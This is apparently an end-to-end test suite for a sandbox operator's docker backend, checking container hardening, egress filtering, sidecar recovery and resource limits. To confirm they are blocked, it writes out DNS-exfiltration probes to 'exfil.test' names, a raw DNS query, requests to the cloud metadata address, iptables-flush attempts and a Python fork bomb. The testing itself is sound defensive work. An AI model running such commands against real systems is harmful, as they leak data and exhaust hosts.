// The docker backend end to end: the real control plane holds the Sandboxes,
// a real dockerd runs them (started when absent), and a stand-in internet in a
// network namespace behind the host's NAT answers DNS, HTTP and HTTPS, logging
// every connection so "cannot reach" is checked on the far side too.
import { mkdtempSync, readFileSync, readlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type Docker from "dockerode";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { ConditionReason, ConditionType } from "../../src/api/conditions.js";
import { kubeConfig, testNamespace, userKubeconfigPath } from "../support/cluster.js";
import {
  containerNames,
  docker,
  ensureDockerd,
  labelled,
  liveRestoreEnabled,
  OPERATOR_IMAGE,
  removeOwnedBy,
  SANDBOX_IMAGE,
  stopDockerd,
} from "../support/docker.js";
import { type DockerInternet, INET, startDockerInternet } from "../support/docker-internet.js";
import { eventually } from "../support/eventually.js";
import { type RunningOperator, startDockerOperator } from "../support/operator.js";
import { REPO_ROOT } from "../support/paths.js";
import { startProcess } from "../support/processes.js";
import { condition, isReady, SandboxClient, type StoredSandbox } from "../support/sandboxes.js";

const kc = kubeConfig();
let ns: Awaited<ReturnType<typeof testNamespace>>;
let sbx: SandboxClient;
let engine: Docker;
let internet: DockerInternet;
let operator: RunningOperator | undefined;

/** This file's installation: orphan collection never touches another's objects. */
const OWNER = `test-${process.pid}`;
const OWNER_LABEL = `sandboxing.dev/owner=${OWNER}`;
const STALL_TIMEOUT = 5;

const ZONE = {
  "allowed.test": { A: [INET.allowed] },
  "denied.test": { A: [INET.denied] },
};

const EGRESS = {
  defaultAction: "deny" as const,
  rules: [{ action: "allow" as const, target: "allowed.test", ports: [80, 443] }],
};

function start(): Promise<RunningOperator> {
  return startDockerOperator({
    namespace: ns.name,
    user: "operator-1",
    engine,
    owner: OWNER,
    upstreamDns: INET.dns,
    stallTimeoutSeconds: STALL_TIMEOUT,
  });
}

beforeAll(async () => {
  engine = await ensureDockerd();
  internet = await startDockerInternet(ZONE);
  ns = await testNamespace(kc, "docker");
  sbx = new SandboxClient(kc, ns.name);
  operator = await start();
}, 600_000);

afterAll(async () => {
  await operator?.stop();
  // Whatever a failed test left: nothing of this file survives it.
  await removeOwnedBy(OWNER);
  await ns?.delete();
  await internet?.destroy();
});

const waitRunning = (name: string, timeout = 60_000) =>
  sbx.waitFor(
    name,
    (s) => {
      isReady(s);
      expect(s.status?.phase).toBe("Running");
    },
    timeout,
  );

/** Run a shell command in the workload container as its own user (UID 1000, no capabilities). */
const inWorkload = (s: StoredSandbox, script: string) =>
  docker(["exec", containerNames(s).workload, "sh", "-c", script], 30_000);

/** The network namespace a process is in (as the kernel names it: "net:[inode]"). */
const netnsOf = (pid: number) => readlinkSync(`/proc/${pid}/ns/net`);

const connectionsTo = (address: string) =>
  internet.servers.lines.filter((l) => l.event === "connection" && l.local === address).length;

describe("docker backend", () => {
  let hello: StoredSandbox;

  it("runs a sandbox as a hardened container behind its egress sidecar, and reports Ready", async () => {
    await sbx.create("hello", {
      image: SANDBOX_IMAGE,
      command: ["sleep", "3600"],
      network: { egress: EGRESS },
    });
    hello = await waitRunning("hello");
    expect(hello.status).toMatchObject({ backend: "docker", observedGeneration: 1 });
    expect(hello.metadata.finalizers).toContain("sandboxing.dev/cleanup");
    expect(condition(hello, ConditionType.EgressReady)).toMatchObject({
      status: "True",
      reason: ConditionReason.EgressEnforced,
    });

    const n = containerNames(hello);
    const workload = await engine.getContainer(n.workload).inspect();
    const sidecar = await engine.getContainer(n.sidecar).inspect();
    expect(hello.status?.containerId).toBe(workload.Id);
    expect(workload.Config.User).toBe("1000:1000");
    expect(workload.Config.Labels).toMatchObject({
      "sandboxing.dev/sandbox-uid": hello.metadata.uid,
      "sandboxing.dev/namespace": ns.name,
      "sandboxing.dev/sandbox": "hello",
      "sandboxing.dev/generation": "1",
    });
    expect(workload.HostConfig).toMatchObject({
      NetworkMode: `container:${sidecar.Id}`,
      CapDrop: ["ALL"],
      PidsLimit: 1024,
      Memory: 2 ** 30,
      NanoCpus: 1e9,
      Tmpfs: { "/tmp": expect.stringContaining("nosuid") },
    });
    expect(workload.HostConfig.SecurityOpt).toContain("no-new-privileges");
    expect(sidecar.HostConfig.CapAdd?.sort()).toEqual(["NET_ADMIN", "NET_RAW", "SETGID", "SETUID"]);
    expect(sidecar.HostConfig.NetworkMode).toBe(n.network);
    const network = await engine.getNetwork(n.network).inspect();
    expect(network.Options?.["com.docker.network.bridge.enable_icc"]).toBe("false");

    // No capabilities in the workload, its init or a process exec'd into it;
    // the sidecar's process dropped its own after installing the lockdown.
    const caps = await inWorkload(hello, "grep CapEff /proc/1/status /proc/self/status; id -u");
    expect(caps.stdout).toMatch(/1\/status:CapEff:\s+0000000000000000/);
    expect(caps.stdout).toMatch(/self\/status:CapEff:\s+0000000000000000/);
    expect(caps.stdout.trim().split("\n").at(-1)).toBe("1000");
    const sidecarCaps = await docker([
      "exec",
      n.sidecar,
      "grep",
      "-E",
      "^(Uid|CapEff)",
      "/proc/1/status",
    ]);
    expect(sidecarCaps.stdout).toMatch(/Uid:\s+1337/);
    expect(sidecarCaps.stdout).toMatch(/CapEff:\s+0000000000000000/);

    // The workspace belongs to the workload's user.
    const ws = await inWorkload(hello, "touch /workspace/x && stat -c %u /workspace && pwd");
    expect(ws.stdout.split("\n").slice(0, 2)).toEqual(["1000", "/workspace"]);
  });

  it("enforces the egress policy inside the sandbox, the same way as in a pod", async () => {
    // -f: a refusal by the proxy (HTTP 403) is a failure too.
    const curl = (args: string) => inWorkload(hello, `curl -fsS -m 5 ${args}`);
    // Allowed: through the explicit proxy, and transparently on 80 (Host) and 443 (SNI).
    expect((await curl("http://allowed.test/")).stdout).toContain(INET.allowed);
    expect((await curl("--noproxy '*' http://allowed.test/")).stdout).toContain(INET.allowed);
    expect((await curl("-k --noproxy '*' https://allowed.test/")).stdout).toContain(INET.allowed);

    const deniedBefore = connectionsTo(INET.denied);
    // A denied name, a direct IP, another port, the metadata address.
    expect((await curl("--noproxy '*' http://denied.test/")).code).not.toBe(0);
    expect((await curl("http://denied.test/")).stdout).not.toContain(INET.denied);
    expect((await curl(`--noproxy '*' http://${INET.denied}:8080/`)).code).not.toBe(0);
    expect((await curl("--noproxy '*' http://allowed.test:8080/")).code).not.toBe(0);
    expect((await curl("--noproxy '*' -m 2 http://169.254.169.254/")).code).not.toBe(0);
    // A denied IP with an allowed name in Host reaches the allowed name's address.
    const fronted = await curl(`--noproxy '*' -H 'Host: allowed.test' http://${INET.denied}/`);
    expect(fronted.stdout).toContain(INET.allowed);
    expect(connectionsTo(INET.denied)).toBe(deniedBefore);

    // No data leaves through DNS: not via Docker's embedded resolver, not via any server.
    const resolved = await inWorkload(
      hello,
      `python3 -c "import socket; socket.getaddrinfo('secret-one.exfil.test', 80)"`,
    );
    expect(resolved.code).not.toBe(0);
    // A hand-made query straight at the internet's DNS server is answered by the sidecar: NXDOMAIN (rcode 3).
    const direct = await inWorkload(
      hello,
      `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); ` +
        `s.sendto(bytes.fromhex('abcd01000001000000000000') + b'\\x0asecret-two\\x05exfil\\x04test\\x00\\x00\\x01\\x00\\x01', ('${INET.dns}', 53)); print(s.recv(512)[3] & 15)"`,
    );
    expect(direct.stdout.trim(), direct.stderr).toBe("3");
    const questions = internet.servers.lines.filter((l) => l.event === "dns").map((l) => l.name);
    expect(questions).toContain("allowed.test");
    expect(questions.filter((q) => String(q).includes("exfil"))).toEqual([]);

    // Root without capabilities in the sandbox's network namespace cannot undo the lockdown.
    for (const user of ["1000", "0"]) {
      const flush = await docker([
        "run",
        "--rm",
        "--network",
        `container:${containerNames(hello).sidecar}`,
        "--cap-drop",
        "ALL",
        "--security-opt",
        "no-new-privileges",
        "--user",
        user,
        "--entrypoint",
        "iptables",
        OPERATOR_IMAGE,
        "-F",
        "OUTPUT",
      ]);
      expect(flush.code, flush.stderr).not.toBe(0);
    }
  });

  it("delivers a changed name policy to the running sidecar without restarting the workload", async () => {
    await sbx.patchSpec("hello", {
      network: {
        egress: {
          ...EGRESS,
          rules: [...EGRESS.rules, { action: "allow", target: "denied.test", ports: [80] }],
        },
      },
    });
    await eventually(
      async () => {
        const r = await inWorkload(hello, "curl -sS -m 3 http://denied.test/");
        expect(r.stdout).toContain(INET.denied);
      },
      { timeout: 20_000 },
    );
    const after = await sbx.get("hello");
    expect(after?.status?.containerId).toBe(hello.status?.containerId);
    const events = await sbx.events("hello");
    expect(events.map((e) => e.reason)).toContain("EgressPolicyUpdated");
  });

  it("restarts a killed sidecar: egress returns within seconds, nothing leaks meanwhile", async () => {
    // The workload tries an allowed and a denied target (by name and by
    // address) and resolves a denied name, throughout, logging to its
    // workspace: the log survives the workload's move into the new namespace.
    const loop =
      "while true; do t=$(date +%s.%N); " +
      "a=$(curl -s -m 2 -o /dev/null -w '%{http_code}' http://allowed.test/); " +
      `d=$(curl -s -m 2 -o /dev/null -w '%{http_code}' --noproxy '*' http://${INET.denied}/); ` +
      "n=$(curl -s -m 2 -o /dev/null -w '%{http_code}' --noproxy '*' http://denied.test/); " +
      "r=$(python3 -c \"import socket; socket.getaddrinfo('probe-$$.exfil.test', 80)\" 2>/dev/null && echo resolved || echo -); " +
      'echo "$t $a $d $n $r" >> /workspace/probe.log; sleep 0.2; done';
    const deniedBefore = connectionsTo(INET.denied);
    await sbx.create("probe", {
      image: SANDBOX_IMAGE,
      command: ["sh", "-c", loop],
      network: { egress: EGRESS },
    });
    const before = await waitRunning("probe");
    const n = containerNames(before);
    const probeLog = async () =>
      (await inWorkload(before, "cat /workspace/probe.log")).stdout
        .trim()
        .split("\n")
        .map((l) => l.split(" "))
        .map(([t, allowed, byAddress, byName, dns]) => ({
          t: Number(t),
          allowed,
          byAddress,
          byName,
          dns,
        }));
    await eventually(async () =>
      expect((await probeLog()).some((l) => l.allowed === "200")).toBe(true),
    );
    const oldSidecar = await engine.getContainer(n.sidecar).inspect();

    // Kill the sidecar's process itself, as the OOM killer would.
    const killedAt = Date.now() / 1000;
    process.kill(oldSidecar.State.Pid, "SIGKILL");
    await sbx.waitFor("probe", (s) => {
      expect(condition(s, ConditionType.EgressReady)?.status).toBe("True");
      isReady(s);
      // Given back only after the restart, not the status from before the kill.
      expect(
        Date.parse(condition(s, ConditionType.EgressReady)!.lastTransitionTime) / 1000,
      ).toBeGreaterThanOrEqual(Math.floor(killedAt));
    });
    await eventually(
      async () => {
        const after = (await probeLog()).filter((l) => l.t > killedAt);
        expect(after.some((l) => l.allowed === "200")).toBe(true);
      },
      { timeout: 20_000 },
    );
    // A few more rounds in the new namespace: denied stays denied there too.
    let back = 0;
    const log = await eventually(
      async () => {
        const all = await probeLog();
        back = all.find((l) => l.t > killedAt && l.allowed === "200")!.t;
        expect(all.filter((l) => l.t > back).length).toBeGreaterThanOrEqual(3);
        return all;
      },
      { timeout: 20_000 },
    );
    console.log(`sidecar killed -> allowed egress back in ${(back - killedAt).toFixed(2)} s`);
    expect(back - killedAt).toBeLessThan(10);

    // Nothing denied got out, at any time: not by address, not by name, not through DNS.
    // The loop ran before the kill, through the outage and after.
    expect(log.some((l) => l.t < killedAt)).toBe(true);
    for (const l of log) {
      expect(l.byAddress).not.toBe("200");
      expect(l.byName).not.toBe("200");
      expect(l.dns).toBe("-");
    }
    expect(connectionsTo(INET.denied)).toBe(deniedBefore);
    const questions = internet.servers.lines.filter((l) => l.event === "dns").map((l) => l.name);
    expect(questions.filter((q) => String(q).includes("exfil"))).toEqual([]);

    // The same sidecar container (restarted), the workload moved into its new namespace.
    const sidecar = await engine.getContainer(n.sidecar).inspect();
    const workload = await engine.getContainer(n.workload).inspect();
    expect(sidecar.Id).toBe(oldSidecar.Id);
    expect(sidecar.State.StartedAt).not.toBe(oldSidecar.State.StartedAt);
    expect(workload.Id).toBe(before.status?.containerId);
    expect(netnsOf(workload.State.Pid)).toBe(netnsOf(sidecar.State.Pid));
    const after = (await sbx.get("probe"))!;
    expect(after.status?.phase).toBe("Running");
    const reasons = (await sbx.events("probe")).map((e) => e.reason);
    expect(reasons).toContain("EgressSidecarRestarted");
    expect(reasons).toContain("WorkloadRestarted");

    // The new namespace is locked down as the first one was.
    const flush = await docker([
      "run",
      "--rm",
      "--network",
      `container:${n.sidecar}`,
      "--cap-drop",
      "ALL",
      "--user",
      "0",
      "--entrypoint",
      "iptables",
      OPERATOR_IMAGE,
      "-F",
      "OUTPUT",
    ]);
    expect(flush.code, flush.stderr).not.toBe(0);
  });

  it("recreates a workload container removed by hand, keeping the workspace", async () => {
    expect((await inWorkload(hello, "echo kept > /workspace/mark")).code).toBe(0);
    const old = (await sbx.get("hello"))!;
    await docker(["rm", "-f", containerNames(hello).workload]);
    const s = await sbx.waitFor("hello", (x) => {
      isReady(x);
      expect(x.status?.containerId).toBeDefined();
      expect(x.status?.containerId).not.toBe(old.status?.containerId);
    });
    expect(s.status?.phase).toBe("Running");
    expect((await inWorkload(hello, "cat /workspace/mark")).stdout.trim()).toBe("kept");
    const reasons = (await sbx.events("hello")).map((e) => e.reason);
    expect(reasons).toContain("WorkloadRecreated");
    expect(reasons).not.toContain("Failed");
    const workload = await engine.getContainer(containerNames(hello).workload).inspect();
    const sidecar = await engine.getContainer(containerNames(hello).sidecar).inspect();
    expect(netnsOf(workload.State.Pid)).toBe(netnsOf(sidecar.State.Pid));
  });

  it("backs off restarting a sidecar that keeps dying, and says so", async () => {
    const n = containerNames(hello);
    const killSidecar = async () => {
      const c = await engine.getContainer(n.sidecar).inspect();
      expect(c.State.Running).toBe(true);
      process.kill(c.State.Pid, "SIGKILL");
      return c.State.StartedAt;
    };
    const restarted = (startedAt: string) =>
      eventually(
        async () => {
          const c = await engine.getContainer(n.sidecar).inspect();
          expect(c.State.Running).toBe(true);
          expect(c.State.StartedAt).not.toBe(startedAt);
        },
        { timeout: 30_000 },
      );
    // Killed again as soon as it runs: restarted at once, then after growing delays.
    for (let i = 0; i < 3; i++) await restarted(await killSidecar());
    // The fourth waits its turn (2-4 s after the third restart), and the status says so.
    const last = await killSidecar();
    const held = await sbx.waitFor("hello", (s) =>
      expect(condition(s, ConditionType.EgressReady)?.message).toContain("crash-loop backoff"),
    );
    expect(condition(held, ConditionType.Ready)?.status).toBe("False");
    await restarted(last);
    await sbx.waitFor("hello", isReady, 30_000);
    const restarts = (await sbx.events("hello"))
      .filter((e) => e.reason === "EgressSidecarRestarted")
      .map((e) => /restart (\d+)/.exec(e.message ?? "")?.[1]);
    expect(restarts).toEqual(expect.arrayContaining(["1", "2", "3", "4"]));
  });

  it("replaces a sidecar removed by hand and moves the workload into its namespace: egress and ports work again", async () => {
    await sbx.create("moved", {
      image: SANDBOX_IMAGE,
      command: ["python3", "-m", "http.server", "8080"],
      ports: [{ name: "http", port: 8080 }],
      network: { egress: EGRESS },
    });
    const before = await waitRunning("moved");
    const n = containerNames(before);
    const oldSidecar = await engine.getContainer(n.sidecar).inspect();
    // Every status the repair goes through, as a client polling it would see it.
    const seen: { ready?: string; port?: number; containerId?: string }[] = [];
    let polling = true;
    const poller = (async () => {
      while (polling) {
        const x = await sbx.get("moved");
        seen.push({
          ready: condition(x!, ConditionType.Ready)?.status,
          port: x?.status?.endpoints?.[0]?.port,
          containerId: x?.status?.containerId,
        });
        await new Promise((r) => setTimeout(r, 50));
      }
    })();
    await docker(["rm", "-f", n.sidecar]);

    const after = await sbx
      .waitFor("moved", (x) => {
        isReady(x);
        expect(x.status?.endpoints?.[0]?.port).not.toBe(before.status?.endpoints?.[0]?.port);
      })
      .finally(() => {
        polling = false;
      });
    await poller;
    const sidecar = await engine.getContainer(n.sidecar).inspect();
    const workload = await engine.getContainer(n.workload).inspect();
    expect(sidecar.Id).not.toBe(oldSidecar.Id);
    // One network namespace again: the new sidecar's, with its lockdown.
    expect(netnsOf(workload.State.Pid)).toBe(netnsOf(sidecar.State.Pid));
    // Ready was withdrawn before the repair, and given back only with the moved
    // workload and the new sidecar's port: never for the detached one.
    const withdrawn = seen.findIndex((x) => x.ready === "False");
    expect(withdrawn, JSON.stringify(seen)).toBeGreaterThanOrEqual(0);
    for (const x of seen.slice(withdrawn).filter((x) => x.ready === "True")) {
      expect(x).toEqual({
        ready: "True",
        port: after.status?.endpoints?.[0]?.port,
        containerId: workload.Id,
      });
    }
    console.log(
      `sidecar removed -> Ready again after ${seen.length} polls; withdrawn for ${seen.filter((x) => x.ready === "False").length} of them`,
    );
    const reasons = (await sbx.events("moved")).map((e) => e.reason);
    expect(reasons).toContain("EgressSidecarRecreated");
    expect(reasons).toContain("WorkloadRecreated");
    expect(reasons).not.toContain("Failed");
    expect(after.status?.containerId).toBe(workload.Id);

    // What Ready claims is true: the published port answers, egress is enforced.
    const endpoint = after.status!.endpoints![0]!;
    await eventually(async () => {
      const res = await fetch(`http://${endpoint.host}:${endpoint.port}/`);
      expect(res.status).toBe(200);
    });
    // -f: a refusal by the proxy (HTTP 403) is a failure too.
    const moved = (args: string) => inWorkload(after, `curl -fsS -m 5 ${args}`);
    expect((await moved("http://allowed.test/")).stdout).toContain(INET.allowed);
    const deniedBefore = connectionsTo(INET.denied);
    expect((await moved(`--noproxy '*' http://${INET.denied}/`)).code).not.toBe(0);
    expect(connectionsTo(INET.denied)).toBe(deniedBefore);
  });

  it("reports exit codes: Succeeded with 0, Failed with the code", async () => {
    await sbx.create("ok", { image: SANDBOX_IMAGE, command: ["sh", "-c", "echo done"] });
    await sbx.create("exit3", { image: SANDBOX_IMAGE, command: ["sh", "-c", "exit 3"] });
    await sbx.waitFor(
      "ok",
      (s) => expect(s.status).toMatchObject({ phase: "Succeeded", exitCode: 0 }),
      60_000,
    );
    const failed = await sbx.waitFor(
      "exit3",
      (s) => expect(s.status).toMatchObject({ phase: "Failed", exitCode: 3, reason: "Failed" }),
      60_000,
    );
    expect(failed.status?.message).toContain("code 3");

    // A read-only root keeps /tmp and the workspace writable.
    await sbx.create("readonly", {
      image: SANDBOX_IMAGE,
      command: ["sh", "-c", "touch /x 2>/dev/null && exit 1; touch /tmp/x /workspace/x || exit 2"],
      security: { readOnlyRootFilesystem: true },
    });
    await sbx.waitFor(
      "readonly",
      (s) => expect(s.status).toMatchObject({ phase: "Succeeded", exitCode: 0 }),
      60_000,
    );
  });

  it("runs examples/docker-backend.yaml to completion", async () => {
    const example = parseYaml(
      readFileSync(join(REPO_ROOT, "examples/docker-backend.yaml"), "utf8"),
    );
    await sbx.create(example.metadata.name, example.spec);
    await sbx.waitFor(
      example.metadata.name,
      (s) => expect(s.status).toMatchObject({ phase: "Succeeded", exitCode: 0, backend: "docker" }),
      60_000,
    );
  });

  it("reports an OOM kill, and holds a fork bomb at the pids limit", async () => {
    await sbx.create("oom", {
      image: SANDBOX_IMAGE,
      command: ["python3", "-c", "b = bytearray(512 * 1024 * 1024)"],
      resources: { memory: "32Mi" },
    });
    await sbx.create("forkbomb", {
      image: SANDBOX_IMAGE,
      // Forks until the limit, and keeps trying (dash would give up at the first failed fork).
      command: [
        "python3",
        "-c",
        "import os, time\nwhile True:\n  try:\n    if os.fork() == 0: time.sleep(600); os._exit(0)\n  except OSError: time.sleep(0.05)",
      ],
      resources: { pids: 64, cpu: "250m" },
    });
    await sbx.waitFor(
      "oom",
      (s) => expect(s.status).toMatchObject({ phase: "Failed", reason: ConditionReason.OOMKilled }),
      60_000,
    );
    const bomb = await waitRunning("forkbomb");
    await eventually(async () => {
      const top = await docker(["top", containerNames(bomb).workload]);
      expect(top.code, top.stderr).toBe(0);
      const processes = top.stdout.trim().split("\n").length - 1;
      expect(processes).toBeGreaterThan(32);
      expect(processes).toBeLessThanOrEqual(64);
    });
    expect((await sbx.get("forkbomb"))?.status?.phase).toBe("Running");
    await sbx.delete("forkbomb");
  });

  it("publishes declared ports, and sandboxes cannot reach each other", async () => {
    await sbx.create("web", {
      image: SANDBOX_IMAGE,
      command: ["python3", "-m", "http.server", "8080"],
      ports: [{ name: "http", port: 8080 }],
    });
    const web = await waitRunning("web");
    const endpoint = web.status?.endpoints?.[0];
    expect(endpoint).toMatchObject({ name: "http", host: "127.0.0.1" });
    await eventually(async () => {
      const res = await fetch(`http://127.0.0.1:${endpoint!.port}/`);
      expect(res.status).toBe(200);
    });
    // A fresh neighbour: hello is the other tests' to change.
    await sbx.create("neighbour", { image: SANDBOX_IMAGE, command: ["sleep", "3600"] });
    const neighbour = await waitRunning("neighbour");
    const ip = web.status?.ip;
    expect(ip).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
    for (const args of [`--noproxy '*' http://${ip}:8080/`, `http://${ip}:8080/`]) {
      const r = await inWorkload(neighbour, `curl -sS -m 3 -o /dev/null -w '%{http_code}' ${args}`);
      expect(r.stdout).not.toBe("200");
    }
  });

  it("says ImagePullFailed with the daemon's words, and Unsupported for pod-only fields", async () => {
    await sbx.create("nopull", { image: "127.0.0.1:1/missing/image:1", command: ["true"] });
    await sbx.create("secretref", {
      image: SANDBOX_IMAGE,
      env: [{ name: "TOKEN", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }],
    });
    const failed = await sbx.waitFor(
      "nopull",
      (s) => {
        const ready = condition(s, ConditionType.Ready);
        expect(ready).toMatchObject({ status: "False", reason: ConditionReason.ImagePullFailed });
        expect(ready?.message).toMatch(/127\.0\.0\.1:1.*(refused|connect)/);
      },
      30_000,
    );
    expect(failed.status?.phase).toMatch(/Pending|Failed/);
    // Stalled longer than the stall timeout: failed, not retried forever.
    await sbx.waitFor("nopull", (s) => expect(s.status?.phase).toBe("Failed"), 30_000);
    await sbx.waitFor("secretref", (s) =>
      expect(condition(s, ConditionType.Invalid)).toMatchObject({
        status: "True",
        reason: ConditionReason.Unsupported,
        message: expect.stringContaining("valueFrom"),
      }),
    );
  });

  it("removes containers, network and volume when the Sandbox is deleted", async () => {
    const web = (await sbx.get("web"))!;
    const uidLabel = `sandboxing.dev/sandbox-uid=${web.metadata.uid}`;
    expect(await labelled("container", uidLabel)).toHaveLength(2);
    await sbx.delete("web");
    await sbx.waitGone("web");
    for (const kind of ["container", "network", "volume"] as const) {
      expect(await labelled(kind, uidLabel), kind).toEqual([]);
    }
  });

  it("a controller killed mid-create leaves no duplicate and no orphan once restarted", async () => {
    await operator?.stop();
    operator = undefined;
    const cli = startProcess(
      "docker-controller",
      process.execPath,
      [
        join(REPO_ROOT, "dist/cli/main.js"),
        "controller",
        `--kubeconfig=${userKubeconfigPath("operator-1")}`,
        `--namespaces=${ns.name}`,
        "--default-backend=docker",
        "--leader-elect=false",
        `--egress-image=${OPERATOR_IMAGE}`,
        `--docker-dns=${INET.dns}`,
        `--docker-owner=${OWNER}`,
        "--metrics-bind-address=0",
        "--health-probe-bind-address=0",
      ],
      mkdtempSync(join(tmpdir(), "docker-controller-")),
    );
    await sbx.create("crash", { image: SANDBOX_IMAGE, command: ["sleep", "3600"] });
    // Kill it the moment the sidecar exists, before the workload does.
    await eventually(
      async () => {
        expect(await labelled("container", `sandboxing.dev/sandbox=crash`)).not.toEqual([]);
      },
      { timeout: 30_000, interval: 20 },
    );
    cli.child.kill("SIGKILL");
    // And an orphan: a lone sidecar whose Sandbox never existed.
    await docker([
      "create",
      "--name",
      `sbx.${ns.name}.ghost.00000000.egress`,
      "--label",
      "app.kubernetes.io/managed-by=sandbox-operator",
      "--label",
      OWNER_LABEL,
      "--label",
      `sandboxing.dev/namespace=${ns.name}`,
      "--label",
      "sandboxing.dev/sandbox=ghost",
      "--label",
      "sandboxing.dev/sandbox-uid=00000000-0000-0000-0000-000000000000",
      "--label",
      "sandboxing.dev/role=egress",
      OPERATOR_IMAGE,
    ]);

    operator = await start();
    const crash = await waitRunning("crash");
    const uidLabel = `sandboxing.dev/sandbox-uid=${crash.metadata.uid}`;
    const n = containerNames(crash);
    expect(await labelled("container", uidLabel)).toEqual([n.workload, n.sidecar].sort());
    expect(await labelled("network", uidLabel)).toEqual([n.network]);
    expect(await labelled("volume", uidLabel)).toHaveLength(1);
    await eventually(
      async () => expect(await labelled("container", "sandboxing.dev/sandbox=ghost")).toEqual([]),
      { timeout: 15_000 },
    );
  });

  it("creates and deletes 20 sandboxes concurrently and leaves nothing behind", async () => {
    const batch = Array.from({ length: 20 }, (_, i) => `batch-${i}`);
    await Promise.all(
      batch.map((name) =>
        sbx.create(name, {
          image: SANDBOX_IMAGE,
          command: ["sleep", "3600"],
          resources: { memory: "64Mi" },
        }),
      ),
    );
    await Promise.all(batch.map((name) => waitRunning(name, 240_000)));
    await Promise.all(batch.map((name) => sbx.delete(name)));
    await Promise.all(batch.map((name) => sbx.waitGone(name, 120_000)));
    for (const kind of ["container", "network", "volume"] as const) {
      const left = (await labelled(kind, OWNER_LABEL)).filter((x) => x.includes(".batch-"));
      expect(left, kind).toEqual([]);
    }
  }, 420_000);
  it("expires as on the pod backend: containers removed, the Sandbox retained or deleted", async () => {
    const sleeper = { image: SANDBOX_IMAGE, command: ["sleep", "3600"] };
    await sbx.create("retain", { ...sleeper, lifetime: { ttlSeconds: 8, onExpire: "Retain" } });
    await sbx.create("expire", { ...sleeper, lifetime: { ttlSeconds: 8 } });
    const retain = await waitRunning("retain");
    const expire = await waitRunning("expire");
    const retained = await sbx.waitFor(
      "retain",
      (s) => expect(s.status?.phase).toBe("Expired"),
      30_000,
    );
    expect(condition(retained, ConditionType.Expired)?.status).toBe("True");
    await sbx.waitGone("expire", 30_000);
    for (const s of [retain, expire]) {
      const uidLabel = `sandboxing.dev/sandbox-uid=${s.metadata.uid}`;
      for (const kind of ["container", "network", "volume"] as const) {
        expect(await labelled(kind, uidLabel), `${s.metadata.name} ${kind}`).toEqual([]);
      }
    }
  });

  it("rides out a dockerd restart: unavailable meanwhile, then status converges", async () => {
    // Sandboxes survive a daemon restart only with live-restore, which
    // hack/docker/ensure-dockerd.sh turns on; a daemon started otherwise gets it now.
    if (!(await liveRestoreEnabled())) {
      await stopDockerd();
      engine = await ensureDockerd();
    }
    expect(await liveRestoreEnabled()).toBe(true);
    await sbx.create("steady", { image: SANDBOX_IMAGE, command: ["sleep", "3600"] });
    const before = await waitRunning("steady");

    await stopDockerd();
    await eventually(() => expect(operator?.dockerUnavailable()).toBeDefined());
    await sbx.create("during", { image: SANDBOX_IMAGE, command: ["sleep", "3600"] });
    await sbx.waitFor("during", (s) =>
      expect(condition(s, ConditionType.Ready)).toMatchObject({
        status: "False",
        reason: ConditionReason.BackendUnavailable,
      }),
    );

    engine = await ensureDockerd();
    await eventually(() => expect(operator?.dockerUnavailable()).toBeUndefined(), {
      timeout: 30_000,
    });
    await waitRunning("during");
    const after = await waitRunning("steady");
    expect(after.status?.containerId).toBe(before.status?.containerId);
    expect((await engine.getContainer(after.status!.containerId!).inspect()).State.Running).toBe(
      true,
    );
  }, 180_000);
});
